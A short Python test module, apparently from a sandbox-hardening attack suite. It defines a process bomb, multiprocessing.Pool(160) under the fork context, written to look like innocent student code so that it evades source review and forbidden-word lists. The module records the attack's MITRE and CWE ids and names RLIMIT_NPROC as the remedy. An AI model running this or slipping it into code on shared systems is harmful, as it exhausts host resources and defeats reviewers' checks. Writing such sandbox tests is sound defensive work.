# SPDX-License-Identifier: MIT
"""process-pool.py - a process bomb in one line of honest-looking Python.

Goal: fill the task budget.
Means: multiprocessing.Pool(160). No loop, no fork in sight; a reader of the source, or a list of
forbidden words, finds a student who wants to be fast. A limit per process does not stop it.
"""

import multiprocessing

from attack import attempting, denied, hold

TASKS = 160


def run(brief):
    attempting()
    try:
        pool = multiprocessing.get_context("fork").Pool(TASKS)
    except (OSError, ImportError) as why:  # ImportError: no semaphores without /dev/shm
        return denied("multiprocessing.Pool", why)
    try:
        return hold()
    finally:
        pool.terminate()


ATTACK = {
    "effect": "more processes than the budget",
    "means": "multiprocessing.Pool(160): the library forks, not the student",
    "oracle": "census",
    "id": "FORK-10",
    "attack_id": "T1499.001, CWE-770",
    "remedy": "RLIMIT_NPROC counts the user's tasks, whoever starts them",
    "run": run,
}
